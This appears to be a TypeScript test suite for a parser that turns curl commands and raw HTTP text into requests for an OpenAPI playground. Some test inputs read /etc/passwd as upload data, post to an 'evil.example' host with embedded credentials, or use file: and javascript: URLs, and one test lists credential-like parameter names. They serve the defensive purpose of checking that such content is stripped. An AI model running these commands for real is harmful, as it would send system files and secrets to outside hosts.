import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { BodyContent, Operation, Parameter } from '../../../src/core/openapi/operation.js';
import { writeCurl } from '../../../src/core/openapi/snippets/curl.js';
import { carriedText, readCarriedText } from '../../../src/core/openapi/written/carried-text.js';
import { fillIn } from '../../../src/core/openapi/written/fill-in.js';
import { fillInBody } from '../../../src/core/openapi/written/fill-in-body.js';
import { matchPath } from '../../../src/core/openapi/written/match-path.js';
import { readRequest } from '../../../src/core/openapi/written/read-request.js';

describe('a request in an answer', () => {
  it('is read from a command with curl as a shell reads it', () => {
    const read = readRequest(
      [
        '# Create a job',
        '$ curl -sS -XPOST "https://api.example.com/v1/jobs?dry=true&tag=a%20b" \\',
        `  -H 'Content-Type: application/json' -H "X-Trace: it's" \\`,
        '  --max-time 3 \\',
        `  -d '{"title": "It'\\''s \\"here\\""}' | jq .`,
      ].join('\n'),
    );
    assert.deepEqual(read, {
      method: 'POST',
      path: '/v1/jobs',
      query: [
        ['dry', 'true'],
        ['tag', 'a b'],
      ],
      headers: [
        ['Content-Type', 'application/json'],
        ['X-Trace', "it's"],
      ],
      body: `{"title": "It's \\"here\\""}`,
    });
  });

  it('is read from the fields of a form of several parts, without files of whoever wrote it', () => {
    const read = readRequest(
      `curl -sX PUT https://a.example/jobs -F title='A; b' -F 'note="c;type=d \\"e\\"";type=text/plain' \\
        --form 'meta={"a":1};type=application/json' -Fshort=1 --form-string 'at=@home' -F data=@/etc/passwd -F 'text=<x'`,
    );
    assert.equal(read?.method, 'PUT');
    assert.equal(read?.body, undefined);
    assert.deepEqual(read?.parts, [
      ['title', 'A; b'],
      ['note', 'c;type=d "e"'],
      ['meta', '{"a":1}'],
      ['short', '1'],
      ['at', '@home'],
    ]);
    assert.equal(readRequest('curl https://a.example/jobs -F data=@a.txt')?.method, 'POST');
  });

  it('is read from options that curl encodes, or says the type of', () => {
    const read = readRequest("curl -G /jobs --data-urlencode 'q=a b&c' --data-urlencode '=x'");
    assert.deepEqual(read?.query, [
      ['q', 'a b&c'],
      ['x', ''],
    ]);
    assert.deepEqual(readRequest("curl /jobs --json '{}'")?.headers, [
      ['Content-Type', 'application/json'],
    ]);
    assert.equal(readRequest('curl /jobs --data-urlencode a@file')?.body, undefined);
  });

  it('is read from HTTP as it is sent', () => {
    const text = 'PUT /jobs/7?view=full HTTP/1.1\r\nHost: a.example\r\nX-One: 1\r\n\r\n{"a":\n\n1}';
    assert.deepEqual(readRequest(text), {
      method: 'PUT',
      path: '/jobs/7',
      query: [['view', 'full']],
      headers: [
        ['Host', 'a.example'],
        ['X-One', '1'],
      ],
      body: '{"a":\n\n1}',
    });
    assert.equal(readRequest('GET /jobs')?.path, '/jobs');
  });

  it('brings no credentials, no files and no host along', () => {
    const read = readRequest(
      `curl https://u:p@evil.example/jobs?api_key=k1&x=1 -u me:pw1 -H 'Authorization: Bearer t1' \\
        -H 'Cookie: s=c1' -H 'X-Api-Key: k2' --oauth2-bearer t2 -d @/etc/passwd`.replace(
        '&x',
        '\\&x',
      ),
    );
    assert.deepEqual(read, {
      method: 'POST',
      path: '/jobs',
      query: [['x', '1']],
      headers: [],
    });
  });

  it('brings along what is called only in part as a credential is', () => {
    const kept = 'author pageToken next_page_token nexttoken syncToken max_tokens key sort-key';
    const left =
      'token accessToken access_token ACCESSTOKEN csrftoken api_key apikey APIKey X-Api-Key oauth_token auth ' +
      'sessionId session_id client_secret Password Ocp-Apim-Subscription-Key id[token]';
    const query = `${kept} ${left}`.split(' ').map((name) => `${name}=1`);
    const read = readRequest(`GET /jobs?${query.join('&')}`);
    assert.deepEqual(
      read?.query.map(([name]) => name),
      kept.split(' '),
    );
  });

  for (const text of [
    '',
    'curl',
    'curl --help',
    'GET',
    'GET jobs',
    'npm install curl',
    'curl javascript:alert(1)',
    'curl file:///etc/passwd',
    "fetch('https://a.example/jobs')",
    `curl https://a.example/${'a'.repeat(40_000)}`,
  ])
    it(`is not seen in ${JSON.stringify(text.slice(0, 30))}`, () =>
      assert.equal(readRequest(text), undefined));

  it('reads what the playground itself writes', () => {
    const texts = fc.string({ unit: 'grapheme', maxLength: 40 });
    fc.assert(
      fc.property(texts, texts.filter(Boolean), (value, body) => {
        const url = `https://a.example/jobs?q=${encodeURIComponent(value).replaceAll("'", '%27')}`;
        const content = { kind: 'text', mediaType: 'text/plain', text: body } as const;
        const command = writeCurl({
          ...{ method: 'POST', url, headers: [], cookies: [], body: content },
        });
        const read = readRequest(command);
        assert.deepEqual(read?.query, [['q', value]]);
        assert.equal(read?.body, body.startsWith('@') ? undefined : body);
      }),
    );
  });

  it('is read in a time that is linear in its text, whatever that holds', () => {
    for (const piece of ['"', "'", '\\', "$'", '\\\n', 'curl ', '\n\n', "'\\''", '-H a: ']) {
      const text = `curl /${piece.repeat(Math.floor(29_000 / piece.length))}`;
      readRequest(text);
      readRequest(`GET /a\n${text}`);
    }
  });
});

describe('the path of an operation', () => {
  it('is found at the end of an address, with its values', () => {
    const found = matchPath('/jobs/{id}/files/{name}.json', '/api/v2/jobs/a%2Fb/files/x.y.json');
    assert.deepEqual(Object.fromEntries(found ?? []), { id: 'a/b', name: 'x.y' });
    assert.equal(matchPath('/jobs/{id}', '/jobs'), undefined);
    assert.equal(matchPath('/jobs/{id}', '/tasks/1'), undefined);
    assert.equal(matchPath('/jobs/{id}', '/jobs/%ff'), undefined);
    assert.equal(matchPath('/', '/'), undefined);
  });
});

describe('a playground', () => {
  const parameter = (name: string, place: Parameter['place'], schema: object): Parameter => ({
    ...{ name, place, required: place === 'path', deprecated: false, style: 'form' },
    ...{ explode: true, allowReserved: false, schema: { ...schema }, examples: [] },
  });
  const operation: Operation = {
    ...{ method: 'get', path: '/jobs/{id}', deprecated: false, servers: [], responses: [] },
    ...{ security: [], schemas: {}, problems: [] },
    parameters: [
      parameter('id', 'path', { type: 'string' }),
      parameter('tags', 'query', { type: 'array', items: { type: 'string' } }),
      parameter('view', 'query', { type: 'string' }),
      parameter('X-Trace', 'header', { type: 'string' }),
    ],
  };

  it('is filled in with what its operation names, and with nothing that the reader has to give', () => {
    const request = readRequest(
      "curl 'https://a.example/v1/jobs/7?tags=a&tags=b&other=1&view=<VIEW>' -H 'x-trace: 9'",
    );
    assert.deepEqual(request && fillIn(operation, request), {
      texts: { 'path id': '7', 'query tags': 'a\nb', 'header X-Trace': '9' },
    });
    const open = readRequest('curl https://a.example/jobs/{id}');
    assert.deepEqual(open && fillIn(operation, open), { texts: {} });
    const other = readRequest('curl -X DELETE https://a.example/jobs/7');
    assert.equal(other && fillIn(operation, other), undefined);
  });

  it('has a line for each item that is written in one value, also where a reference says so', () => {
    const items = { type: 'array', items: { type: 'string' } };
    const lists = [
      ...[parameter('own', 'query', items), parameter('named', 'query', { $ref: '#/schemas/L' })],
      parameter('X-List', 'header', { $ref: '#/schemas/L' }),
    ].map((one) => ({ ...one, explode: false }));
    const listing = { ...operation, parameters: lists, schemas: { L: items } };
    const request = readRequest("curl '/jobs/7?own=a,b&named=c,d' -H 'X-List: e,f'");
    assert.deepEqual(request && fillIn(listing, request), {
      texts: { 'query own': 'a\nb', 'query named': 'c\nd', 'header X-List': 'e\nf' },
    });
  });

  it('takes a body in the media type that it is written in', () => {
    const object = { type: 'object', properties: { n: { type: 'integer' } } };
    const content = [
      ...['application/json', 'application/x-www-form-urlencoded', 'multipart/form-data'],
      ...['text/csv', 'application/merge-patch+json'],
    ].map((mediaType): BodyContent => ({ mediaType, schema: object, examples: [], encoding: {} }));
    const filled = (code: string, chosen = 0, types: readonly BodyContent[] = content) => {
      const request = readRequest(`curl /jobs ${code}`);
      return request && fillInBody(request, { content: types, chosen, schemas: {} });
    };
    assert.deepEqual(filled("-d '{}'"), { index: 0, text: '{}' });
    assert.deepEqual(filled("-d '{}'", 4), { index: 4, text: '{}' });
    assert.deepEqual(filled("--json '{}'", 1), { index: 0, text: '{}' });
    assert.deepEqual(filled('-d n=1'), { index: 1, text: '{"n":1}' });
    assert.deepEqual(filled('-F n=1'), { index: 2, text: '{"n":1}' });
    assert.deepEqual(filled("-d 'a,b' -H 'content-type: Text/CSV; header=present'"), {
      ...{ index: 3, text: 'a,b' },
    });
    assert.deepEqual(filled("-d '{}' -H 'Content-Type: application/merge-patch+json'"), {
      ...{ index: 4, text: '{}' },
    });
    // What the operation does not take is left out, and so is a file.
    assert.equal(filled('-d n=1', 0, content.slice(0, 1)), undefined);
    assert.equal(filled('-F n=1', 0, content.slice(0, 2)), undefined);
    assert.equal(filled('-d @file'), undefined);
    assert.equal(filled("-d x -H 'Content-Type: application/pdf'"), undefined);
  });

  it('takes nothing out of a storage that is no request', () => {
    const request = readRequest("curl https://a.example/jobs/7?a=1 -d '{}'");
    assert.ok(request);
    assert.deepEqual(readCarriedText(carriedText(request)), request);
    for (const hostile of [
      ...['{', '[]', 'null', '{"method":"GET"}'],
      JSON.stringify({ ...request, body: { toString: 1 } }),
      JSON.stringify({ ...request, query: [['a']] }),
      JSON.stringify({ ...request, parts: [['a', 1]] }),
      JSON.stringify({ ...request, headers: Array(51).fill(['a', 'b']) }),
      JSON.stringify({ ...request, path: `/${'a'.repeat(3000)}` }),
    ])
      assert.equal(readCarriedText(hostile), undefined, hostile.slice(0, 40));
  });
});
